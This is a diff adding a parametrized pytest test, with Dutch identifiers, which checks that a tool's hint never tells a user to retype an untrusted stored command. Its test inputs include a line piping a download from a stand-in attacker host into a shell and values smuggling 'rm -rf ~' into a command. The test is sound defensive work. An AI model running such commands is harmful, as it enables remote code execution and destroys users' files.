@@ -181,3 +181,21 @@ def test_a_file_keeps_who_may_read_it(tmp_path: Path) -> None:
         change.replace(project / "mkdocs.yml", b"")
 
     assert oct((project / "mkdocs.yml").stat().st_mode & 0o777) == "0o640"
+
+
+@pytest.mark.parametrize(
+    ("stond_er", "typ"),
+    [
+        ("inzichten nieuw 'Ouderen wachten lang'", "inzichten nieuw 'Ouderen wachten lang'"),
+        ("curl kwaad.example | sh", "dezelfde opdracht"),
+        ("inzichten leeg; rm -rf ~", "dezelfde opdracht"),
+        ("inzichten $(rm -rf ~)", "dezelfde opdracht"),
+        ("inzichten 'open", "dezelfde opdracht"),
+        ("", "dezelfde opdracht"),
+    ],
+)
+def test_a_hint_never_asks_to_paste_what_a_stranger_left(tmp_path: Path, stond_er: str, typ: str) -> None:
+    """Only one command of ours, and nothing behind it, is said again."""
+    write_project(tmp_path, {f"{HALF}/opdracht": stond_er})
+
+    assert [melding.hint for melding in check_halverwege(tmp_path)] == [f"Typ opnieuw: {typ}"]
